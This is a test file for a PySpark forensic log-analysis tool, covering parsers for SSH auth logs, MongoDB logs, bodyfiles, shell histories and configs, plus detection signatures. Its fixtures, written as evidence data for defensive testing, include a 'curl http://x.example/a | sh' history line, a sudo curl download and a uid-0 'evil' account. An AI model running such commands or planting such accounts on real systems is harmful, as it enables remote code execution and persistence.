import gzip
from datetime import datetime

import pytest
from pyspark.sql import functions as F

from spoorline.operators import answers, context
from spoorline.operators import signatures as sig
from spoorline.operators.filters import EventFilter, timeline
from spoorline.plans.case import analyze
from spoorline.session import prepare
from spoorline.sinks import exports
from spoorline.sources import bodyfile, config, files, history, lines, mongod, syslog, text, winevents
from spoorline.streaming.ingest import ingest, stream_texts


def table(spark, files, mtime="2024-03-05 00:00:00"):
    rows = [(p, i + 1, v) for p, vs in files.items() for i, v in enumerate(vs)]
    return spark.createDataFrame(rows, "path string, line_no long, value string").withColumn(
        "mtime", F.lit(mtime).cast("timestamp"))


AUTH = [
    "Mar  1 10:00:01 gate sshd[5]: Failed password for ann from 203.0.113.7 port 1 ssh2",
    "Mar  1 10:00:02 gate sshd[5]: Failed password for invalid user bob from 203.0.113.7 port 1 ssh2",
    "Mar  1 10:00:03 gate sshd[5]: Failed password for ann from 203.0.113.7 port 1 ssh2",
    "Mar  1 10:00:09 gate sshd[5]: Accepted password for ann from 203.0.113.7 port 1 ssh2",
    "Mar  1 10:01:00 gate sudo:  ann : TTY=pts/0 ; USER=root ; COMMAND=/usr/bin/curl http://198.51.100.9/x",
    "Mar  1 10:02:00 gate useradd[9]: new user: name=ghost, UID=1002",
    "Mar  1 10:03:00 gate sshd[5]: Accepted publickey for ann from 203.0.113.7 port 1 ssh2",
]


def test_login_after_failures(spark):
    events = syslog.syslog_events(table(spark, {"/c/auth.log": AUTH}))
    rows = timeline(events, EventFilter(tag="brute_force_success")).collect()
    assert len(rows) == 1 and rows[0].severity == "high" and rows[0].data["prior_failures"] == "3"
    assert rows[0].ts == "2024-03-01 10:00:09" and rows[0].host == "gate"
    kinds = [r.event_type for r in events.orderBy("event_time", "raw").collect()]
    assert kinds == ["ssh_failed_login"] * 3 + ["ssh_login_success", "sudo_command", "account_created", "ssh_login_success"]
    asked = spark.createDataFrame([("What account was created?",), ("Which IP is the attacker's IP?",)], "question string")
    best = {r.question: r.answer for r in answers.answer_all(events, asked).filter("place = 1").collect()}
    assert best == {"What account was created?": "ghost", "Which IP is the attacker's IP?": "203.0.113.7"}
    split = syslog.syslog_events(table(spark, {"/a": AUTH[:3], "/b": AUTH[3:4]}))
    assert split.filter("severity = 'high'").count() == 0


def test_lines_are_numbered_across_ranges(spark, tmp_path):
    content = [f"line {i} " + "x" * (i % 50) for i in range(5000)]
    (tmp_path / "a.log").write_text("\n".join(content) + "\n")
    with gzip.open(tmp_path / "b.log.gz", "wt") as out:
        out.write("\n".join(content[:100]))
    (tmp_path / ".hidden").write_text("secret\n")
    (tmp_path / "_deep" / "er").mkdir(parents=True)
    (tmp_path / "_deep" / "er" / "c").write_bytes(b"one\r\ntwo\rthree\n\nb\xffd")
    (tmp_path / "empty").write_bytes(b"")
    rows = {}
    for r in lines.read_lines(spark, str(tmp_path)).collect():
        rows.setdefault(r.path.rsplit("/", 1)[-1], {})[r.line_no] = r.value
    assert rows == {
        "a.log": {i + 1: v for i, v in enumerate(content)},
        "b.log.gz": {i + 1: v for i, v in enumerate(content[:100])},
        ".hidden": {1: "secret"},
        "c": {1: "one", 2: "two", 3: "three", 4: "", 5: "b\ufffdd"},
    }
    listed = files.list_files(spark, str(tmp_path)).drop("error")
    for size in (1, 7, 20_000):
        some = listed.where("path like '%/c'") if size < 20_000 else listed
        small = files.numbered(files.read_table(files.ranges(some, size), size))
        got = {}
        for r in small.collect():
            got.setdefault(r.path.rsplit("/", 1)[-1], {})[r.line_no] = r.value
        assert got == {k: v for k, v in rows.items() if size == 20_000 or k == "c"}


def test_a_file_that_breaks_off_keeps_its_lines(spark, tmp_path):
    packed = gzip.compress("\n".join(f"line {i} {i * 7919}" for i in range(400_000)).encode())
    (tmp_path / "cut.gz").write_bytes(packed[: len(packed) // 2])
    (tmp_path / "not.gz").write_bytes(b"plain")
    (tmp_path / "gone").symlink_to(tmp_path / "nowhere")
    listed = files.list_files(spark, str(tmp_path))
    assert {r.path.rsplit("/", 1)[-1]: r.error for r in listed.collect()}["gone"] == "not a readable file"
    table = files.read_table(files.ranges(listed.where("error IS NULL").drop("error")))
    errors = {r.path.rsplit("/", 1)[-1]: r.error.split(":")[0] for r in lines.unreadable(table).collect()}
    assert errors == {"cut.gz": "EOFError", "not.gz": "BadGzipFile"}
    assert files.numbered(table).where("value IS NOT NULL").agg(F.max("line_no")).first()[0] > 100_000


def test_strings_over_chunk_edges(spark, tmp_path):
    data = bytearray(b"." * 400)
    data[95:105] = b"NEEDLEnine"
    data[195:205] = b" wordwide "
    data[298:303] = b"xword"
    data[305:309] = b"word"
    (tmp_path / "f.bin").write_bytes(bytes(data))
    (tmp_path / "g.bin").write_bytes(b"word" + b"x" * 300)
    signatures = [
        {"name": "edge", "severity": "high", "strings": {"$a": "NEEDLEnine"}, "condition": "$a"},
        {"name": "nocase", "severity": "low", "strings": {"$a": {"text": "needleNINE", "nocase": True}}, "condition": "$a"},
        {"name": "word", "severity": "low", "strings": {"$a": {"text": "word", "fullword": True}}, "condition": "$a"},
        {"name": "regex", "severity": "low", "strings": {"$a": {"regex": "N[A-Z]{5}n"}, "$b": {"regex": "^word"}}, "condition": "1 of them"},
        {"name": "none", "severity": "low", "strings": {"$a": "absent"}, "condition": "$a"},
        {"name": "missing", "severity": "low", "strings": {"$a": "absent"}, "condition": "not $a"},
    ]
    stored = files.list_files(spark, str(tmp_path)).select("path", "size")
    wholes = spark.read.format("binaryFile").load(str(tmp_path)).select("path", F.decode("content", "ISO-8859-1").alias("t"))
    name = F.regexp_extract("path", "[^/]*$", 0).alias("path")
    want = {(r.path, r.rule, tuple(r.strings)) for r in sig.scan_texts(wholes.withColumn("path", name), "t", ["path"], signatures).collect()}
    assert ("f.bin", "word", ("a",)) in want and ("g.bin", "regex", ("b",)) in want
    for size in (16, 100, 1000):
        got = sig.scan_files(stored, signatures, size).withColumn("path", name)
        assert {(r.path, r.rule, tuple(r.strings)) for r in got.collect()} == want
    spots = files.ranges(stored, 100)
    plan = sig.scan_files(stored, signatures, 100)._jdf.queryExecution().executedPlan().toString()
    assert "content" not in " ".join(line for line in plan.split("\n") if "Exchange" in line) and spots.count() == 8


def test_inventory_and_routes(spark, tmp_path):
    files = {
        "NTUSER.DAT": b"regf" + b"\0" * 40, "Security.evtx": b"ElfFile\0" + b"\0" * 9, "old.pf": b"\x11\0\0\0SCCA" + b"\0" * 9,
        "x.sqlite": b"SQLite format 3\0", "mongo.txt": b'{"t":{"$date":"2024-01-01T00:00:00Z"},"s":"I","ctx":"c","msg":"m"}\n',
        "renamed": AUTH[0].encode(), "body": b"0|/a|1|-rw-r--r--|0|0|5|1700000000|1700000000|1700000000|0\n",
        "passwd": b"root:x:0:0::/root:/bin/bash\n", "bash_history": b"ls\n", "a.service": b"[Unit]\n", "blob": bytes(range(256)),
        "SYSTEM.LOG1": b"regf" + b"\0" * 40, "notes.md": b"hello there\n",
    }
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
    rows = {r.path.rsplit("/", 1)[-1]: r for r in lines.route(lines.inventory(spark, str(tmp_path))).collect()}
    want = {
        "NTUSER.DAT": ("registry", "registry"), "Security.evtx": ("evtx", "evtx"), "old.pf": ("prefetch", None), "x.sqlite": ("sqlite", None),
        "mongo.txt": ("text", "mongodb"), "renamed": ("syslog", "linux_syslog"), "body": ("text", "bodyfile"),
        "passwd": ("text", "linux_config"), "bash_history": ("text", "shell_history"), "a.service": ("text", None),
        "blob": ("binary", None), "SYSTEM.LOG1": ("registry", None), "notes.md": ("text", "generic_text"),
    }
    assert {n: (r.kind, r.parser) for n, r in rows.items()} == want


def test_database_flood(spark):
    record = '{{"t":{{"$date":"2024-01-01T00:00:{:02d}.500+00:00"}}, "s":"I","c":"NETWORK","id":1,"ctx":"l","msg":"{}","attr":{{{}}}}}'
    body = [record.format(0, "MongoDB starting", '"host":"db1"')]
    body += [record.format(i % 50, "Connection accepted", f'"remote":"192.0.2.9:{i}"') for i in range(220)]
    body += [record.format(1, "Connection accepted", '"remote":"192.0.2.1:1"'), "garbage", '{"t":1}',
             record.format(2, "Access control is not enabled for the database. X", "")]
    source = table(spark, {"/c/mongod.log": body})
    got = mongod.mongod_events(source)
    flood = got.filter("event_type = 'db_connection_flood'").collect()
    assert len(flood) == 1 and flood[0].data["connections"] == "220" and flood[0].host == "db1"
    assert flood[0].details.startswith("SrcIP: 192.0.2.9 ¦ Connections: 220 ¦ Window: 49s")
    assert got.filter("event_type = 'db_no_auth' AND severity = 'high'").count() == 1
    assert mongod.malformed(source).first().lines == 2
    assert got.filter("event_type <> 'db_connection_flood'").count() == 223
    assert got.select("id").distinct().count() == 224


def test_filesystem_entries(spark):
    body = [
        "0|/tmp/a|b|77|-rwxr-xr-x|1000|0|10|1700000000|1700000060|1700000060|0",
        "d41d8|/usr/bin/su|78|-rwsr-xr-x|0|0|10|1700000000|1700000000|1700000000|1700000000",
        "#comment", "too|short",
    ]
    source = table(spark, {"/c/bodyfile.txt": body})
    rows = bodyfile.bodyfile_events(source).orderBy(F.col("data")["inode"].asc_nulls_last(), "event_time").collect()
    assert [(r.data.get("macb"), r.severity, r.title) for r in rows[:-1]] == [
        (".a..", "high", "File accessed"), ("m.c.", "high", "File modified"), ("macb", "low", "File created and written")]
    assert rows[0].data["path"] == "/tmp/a|b" and rows[-1].details == "Entries: 2 ¦ Events: 3 ¦ Notable: 2 ¦ Span: 2023-11-14 to 2023-11-14"
    assert bodyfile.malformed(source).first().lines == 2


def test_histories(spark):
    body = ["ls", "#1700000000", "", "mongodump -h x", "pwd", ": 1700000100:0;cd /", "# just a note"]
    rows = history.history_events(table(spark, {"/x/home/ann/.bash_history": body})).orderBy(F.col("data")["line"].cast("int")).collect()
    assert [(r.data["command"], r.ts) for r in rows] == [
        ("ls", "2024-03-04 23:59:58"), ("mongodump -h x", "2023-11-14 22:13:20"), ("pwd", "2024-03-04 23:59:59"),
        ("cd /", "2023-11-14 22:15:00"), ("# just a note", "2024-03-05 00:00:00")]
    assert rows[1].severity == "high" and rows[0].user == "ann" and rows[0].source_artifact == "history/bash"


def test_exposed_service(spark):
    files = {
        "/a/etc/mongod.conf": ["net:", "  port: 27017", "  bindIp: 0.0.0.0   # all", "#security:", "#  authorization: enabled"],
        "/b/etc/mongod.conf": ["  storage:", "    dbPath: /x", "net:", "  bindIp: 127.0.0.1", "  tls:", "    bindIp: 0.0.0.0", "security:",
                               "  authorization: \"enabled\""],
        "/c/etc/mongod.conf": ["net.bindIp: \"*\"", "security:", "  keyFile: /k"],
        "/d/etc/mongod.conf": ["net:", "    x:", "  bindIp: 0.0.0.0"],
    }
    got = {r.path[1]: r.finding for r in config.service_findings(table(spark, files)).collect()}
    assert {k: (v.event_type, v.severity) for k, v in got.items()} == {
        "a": ("config_exposed_service", "crit"), "b": ("config_posture", "low"), "c": ("config_bind_all", "med"),
        "d": ("config_exposed_service", "crit")}
    assert got["a"].details == "bindIp: 0.0.0.0 ¦ port: 27017 ¦ authorization: not set ¦ security block: commented out"
    assert got["a"].why.endswith("commented out") and got["d"].why.endswith("not enabled")


def test_accounts_and_clean_files(spark):
    files = {"/c/etc/passwd": ["root:x:0:0::/root:/bin/bash", "evil:x:0:0::/:/bin/sh", "mysql:x:110:1::/:/bin/sh", "ann:x:1000:1::/:/bin/sh"],
             "/c/etc/shadow": ["root:!:1::", "ann::1::"], "/d/etc/sudoers": ["# only comments"]}
    got = sorted((r.finding.event_type, r.finding.severity) for r in config.config_findings(table(spark, files)).collect())
    assert got == [("config_empty_password", "crit"), ("config_posture", "info"), ("config_service_shell", "med"), ("config_uid0_account", "crit")]


def test_untimed_and_timed_text(spark):
    files = {"/c/lsof_-nPl.txt": ["a" * 10000, "b" * 10000, "c"], "/c/app.log": ["2024-03-01 10:00:00 up", "no clock"],
             "/c/key.txt": ["x", "-----BEGIN RSA PRIVATE KEY-----"]}
    rows = text.generic_text_events(table(spark, files)).collect()
    got = {(r.artifact_path, r.event_type, r.data.get("block")): r for r in rows}
    listing = got["/c/lsof_-nPl.txt", "text_artifact", "0"]
    assert listing.title == "Open files and sockets (lsof)" and listing.data["lines"] == "2" and len(listing.raw) == 20001
    assert got["/c/lsof_-nPl.txt", "text_artifact", "1"].raw == "c"
    assert got["/c/app.log", "text_artifact", "0"].raw == "no clock"
    assert ("/c/app.log", "log_line", None) in got and got["/c/key.txt", "text_artifact", "0"].severity == "med"


def test_questions(spark):
    task = "Scenario: x\n1) What is the attacker IP?\nQ2. Which account was compromised?\n1) what is the attacker ip?\nDid it work out well?"
    one = spark.createDataFrame([("t", task)], "path string, text string")
    assert [r.question for r in text.questions_table(one).collect()] == ["What is the attacker IP?", "Which account was compromised?"]
    names = spark.createDataFrame([("/x/README.txt", 10), ("/x/task 1.md", 10), ("/x/notes.log", 10), ("/x/questions.txt", 1 << 20)], "p string, n long")
    assert [r.k for r in names.select(text.is_task_file(F.col("p"), F.col("n")).alias("k")).collect()] == [True, True, False, False]


@pytest.mark.parametrize("provider, channel, family", [
    ("Microsoft-Windows-Sysmon", "x", "sysmon"), ("Microsoft-Windows-Security-Auditing", "Security", "security"),
    ("Service Control Manager", "System", "system"), ("Vendor-Security-Tool", "Vendor/Ops", "other"),
    ("Microsoft-Windows-StateRepository", "App", "other"), ("Microsoft-Windows-TerminalServices-X", "", "rdp")])
def test_families(spark, provider, channel, family):
    df = spark.createDataFrame([(provider, channel)], "p string, c string")
    assert df.select(winevents.family(F.col("p"), F.col("c")).alias("f")).first().f == family


def test_payload_is_whole(spark):
    pairs = [("EventID", "1"), ("IpAddress", "-")] + [(f"Field{i}", "v" * 1000) for i in range(45)]
    record = F.create_map(*[F.lit(x) for pair in pairs for x in pair])
    data = spark.range(1).select(winevents.capture_fields(record).alias("d")).first().d
    assert "ip_address" not in data and "event_id" not in data
    assert len(data) == 45 and set(map(len, data.values())) == {1000}


def test_context_prefers_the_active_bias(spark):
    from spoorline.operators.normalize import normalize

    rows = [(1, datetime(2024, 1, 2), "system_timezone", {"name": "Bias", "utc_offset": "UTC-06:00"}),
            (2, datetime(2024, 1, 2), "system_timezone", {"name": "ActiveTimeBias", "utc_offset": "UTC-05:00"}),
            (3, datetime(2024, 1, 2), "computer_name", {"name": "(Default)", "value": "mnmsrvc"}),
            (4, datetime(2024, 1, 3), "computer_name", {"name": "ComputerName", "value": "PC9"})]
    df = normalize(spark.createDataFrame(rows, "id long, event_time timestamp, event_type string, data map<string,string>"))
    got = context.derive_context(df).first()
    assert (got.zone, got.host, got.year) == ("-05:00", "PC9", 2024)
    assert context.derive_context(df, zone="America/Chicago", year=2020).first().zone == "America/Chicago"
    named = df.filter("id > 2").unionByName(normalize(spark.createDataFrame(
        [(9, datetime(2024, 1, 1), "system_timezone", {"name": "TimeZoneKeyName", "value": "Tokyo Standard Time"})],
        "id long, event_time timestamp, event_type string, data map<string,string>")))
    assert context.derive_context(named).first().zone == "+09:00"


def test_a_whole_case(spark, tmp_path):
    evidence, out = tmp_path / "evidence", tmp_path / "out"
    evidence.mkdir()
    (evidence / "auth.log").write_text("\n".join(AUTH) + "\n")
    (evidence / "app.log").write_text("2024-03-02 08:00:00 started\n")
    (evidence / "passwd").write_text("root:x:0:0::/root:/bin/bash\nevil:x:0:0::/:/bin/sh\n")
    (evidence / "home" / "eve").mkdir(parents=True)
    (evidence / "home" / "eve" / ".bash_history").write_text("#1709366400\ncurl http://x.example/a | sh\n")
    (evidence / "home" / "eve" / ".notes.gz").write_bytes(b"plain")
    rule = {"title": "Cracked", "id": "c", "level": "high", "logsource": {"product": "linux"},
            "detection": {"s": {"message|contains": "Brute-force SUCCESS"}, "condition": "s"}}
    sign = {"name": "uid0", "severity": "high", "strings": {"$a": ":x:0:0:"}, "condition": "$a"}
    case = analyze(spark, str(evidence), str(out), rules=[rule], signatures=[sign])
    kinds = {r.event_type: r.n for r in case.events.groupBy("event_type").agg(F.count("*").alias("n")).collect()}
    assert kinds["ssh_login_success"] == 2 and kinds["config_uid0_account"] == 1 and kinds["sigma_match"] == 1 and kinds["yara_match"] == 1
    assert case.context.first().year == 2024
    assert {r.rule for r in case.findings.collect()} == {"Cracked", "uid0"}
    assert kinds["shell_command"] == 1
    status = {r.path.rsplit("/", 1)[-1]: r.status for r in case.status.collect()}
    assert status == {"auth.log": "parsed", "app.log": "parsed", "passwd": "parsed", ".bash_history": "parsed", ".notes.gz": "error"}
    told = {r.cause for r in case.diagnostics.filter("path like '%.notes.gz'").collect()}
    assert len(told) == 1 and told.pop().startswith("BadGzipFile")
    assert case.skipped.count() == 0
    assert case.links.filter("value = '203.0.113.7'").select("event_id").distinct().count() >= 5
    for fmt in exports.EXPORTS:
        exports.export(case.events, str(out / fmt), fmt)
    assert spark.read.option("header", True).option("escape", '"').csv(str(out / "csv")).count() == case.events.count()
    with pytest.raises(ValueError):
        exports.export(case.events, str(out / "x"), "pdf")


def test_streamed_files_give_the_same_events(spark, tmp_path):
    source = tmp_path / "in"
    source.mkdir()
    (source / "auth.log").write_text("\n".join(AUTH))
    run = lambda: ingest(
        stream_texts(spark, str(source)), syslog.syslog_events, str(tmp_path / "out"), str(tmp_path / "ck")).awaitTermination()
    run()
    (source / "two.log").write_text("\n".join(AUTH[:2]))
    run()
    got = spark.read.parquet(str(tmp_path / "out"))
    assert got.count() == 9 and got.filter("severity = 'high'").count() == 2


def test_a_failed_write_leaves_the_old_case(spark, tmp_path):
    from spoorline.operators.normalize import normalize

    rows = normalize(spark.createDataFrame([(i, datetime(2024, 1, 1 + i % 3), f"h{i % 5}") for i in range(60)], "id long, event_time timestamp, host string"))
    path = str(tmp_path / "case")
    exports.write_events(rows, path)
    broken = rows.withColumn("title", F.when(F.col("id") < 100, F.raise_error(F.lit("no"))))
    with pytest.raises(Exception, match="no"):
        exports.write_events(broken, path)
    assert spark.read.parquet(path).count() == 60
    assert sorted(p.name for p in tmp_path.iterdir()) == ["case"]
    exports.write_events(rows.filter("id < 30"), path)
    assert spark.read.parquet(path).count() == 30
    exports.write_days(rows.filter("event_date = '2024-01-02'"), path)
    counts = {str(r.event_date): r["count"] for r in spark.read.parquet(path).groupBy("event_date").count().collect()}
    assert counts == {"2024-01-01": 10, "2024-01-02": 20, "2024-01-03": 10}


def test_questions_of_a_long_text_cost_one_pass(spark):
    import time

    asked = [f"{'Which' if i % 2 else 'which'} account number is {i % 15000}?" for i in range(40000)]
    one = spark.createDataFrame([("a", "\n".join(asked)), ("b", None), ("c", "")], "path string, text string")
    start = time.monotonic()
    got = [r.question for r in text.questions_table(one).orderBy("position").collect()]
    assert got == asked[:15000]
    # Each question against each would be 1.6 billion comparisons.
    assert time.monotonic() - start < 60


def test_one_folder_of_many_files_is_shared_by_tasks(spark, tmp_path):
    folder = tmp_path / "case" / "notes"
    folder.mkdir(parents=True)
    for i in range(1200):
        (folder / f".n{i}").write_text(f"{i}\nend")
    (folder / "deep").mkdir()
    (folder / "deep" / "x").write_bytes(b"")
    listed = files.list_files(spark, str(tmp_path))
    found = listed.withColumn("task", F.spark_partition_id()).collect()
    assert sorted(r.path for r in found) == sorted([*(str(folder / f".n{i}") for i in range(1200)), str(folder / "deep" / "x")])
    assert len({r.task for r in found}) > 8 and all(r.error is None and r.mtime.year > 2000 for r in found)
    assert {r.size for r in found} == {0, 5, 6, 7, 8}
    for rows in (files.digests(listed), files.lines_in(files.ranges(listed.drop("error")))):
        assert rows.select(F.spark_partition_id()).distinct().count() > 8
    assert lines.read_lines(spark, str(tmp_path)).count() == 2400


def test_contents_reach_python_in_bounded_batches(spark, tmp_path):
    rows = spark.range(40, numPartitions=1).select(
        F.concat(F.lit("/f"), "id").alias("path"), F.expr("repeat('x', 1000000)").cast("binary").alias("content"))

    def octets(batches):
        for batch in batches:
            yield batch.from_pydict({"mb": [batch.nbytes // 1_000_000]})

    prepare(spark)
    assert max(r.mb for r in rows.mapInArrow(octets, "mb long").collect()) < 20
    assert files.save_files(rows, str(tmp_path)).agg(F.sum("bytes")).first()[0] == 40_000_000
